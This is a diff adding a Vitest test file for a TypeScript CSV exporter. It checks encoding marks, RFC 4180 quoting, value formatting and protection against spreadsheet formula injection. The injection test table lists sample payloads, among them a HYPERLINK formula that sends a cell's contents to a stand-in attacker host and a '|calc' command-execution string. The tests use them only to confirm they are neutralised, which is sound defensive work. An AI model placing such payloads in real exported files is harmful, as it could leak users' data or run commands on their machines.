@@ -1,0 +1,54 @@
+import { describe, expect, it } from 'vitest'
+import { toCsv, type CsvCell } from './csv.ts'
+
+async function allOf(pieces: AsyncIterable<string>): Promise<string> {
+  let text = ''
+  for await (const piece of pieces) text += piece
+  return text
+}
+
+async function written(...cells: CsvCell[]): Promise<string> {
+  const columns = cells.map((_, index) => ({ head: `c${index}`, cell: (row: CsvCell[]) => row[index]! }))
+  const pages = (async function* () {
+    yield [cells]
+  })()
+  const [, ...rest] = (await allOf(toCsv(columns, pages))).split('\r\n')
+  return rest.join('\r\n')
+}
+
+describe('a CSV file', () => {
+  it('begins with the mark that tells a spreadsheet its encoding, then the heads', async () => {
+    const empty = (async function* () {})()
+    const head = [
+      { head: 'Name, full', cell: () => '' },
+      { head: 'Zoë', cell: () => '' },
+    ]
+    expect(await allOf(toCsv(head, empty))).toBe('\uFEFF"Name, full",Zoë\r\n')
+  })
+
+  it('quotes what would break its lines and cells (RFC 4180)', async () => {
+    expect(await written('a,b', 'say "hi"', 'two\nlines', 'plain', '')).toBe(
+      '"a,b","say ""hi""","two\nlines",plain,\r\n',
+    )
+  })
+
+  it('writes numbers, flags, moments and nothing plainly', async () => {
+    const moment = new Date('2026-01-15T12:00:00Z')
+    expect(await written(-5, true, false, moment, null)).toBe('-5,yes,no,2026-01-15T12:00:00.000Z,\r\n')
+  })
+
+  it.each([
+    ['=1+2', "'=1+2"],
+    ['+1 555 0100', "'+1 555 0100"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['|calc', "'|calc"],
+    ['\t=1', "'\t=1"],
+    ['\tname', "'\tname"],
+    [' =1', "' =1"],
+    ['\uFF1D1', "'\uFF1D1"],
+    ['=HYPERLINK("http://evil.example?"&A1)', `"'=HYPERLINK(""http://evil.example?""&A1)"`],
+    ['\r=1', `"'\r=1"`],
+    ['a=1', 'a=1'],
+  ])('keeps a spreadsheet from running %j', async (text, cell) => expect(await written(text)).toBe(`${cell}\r\n`))
+})
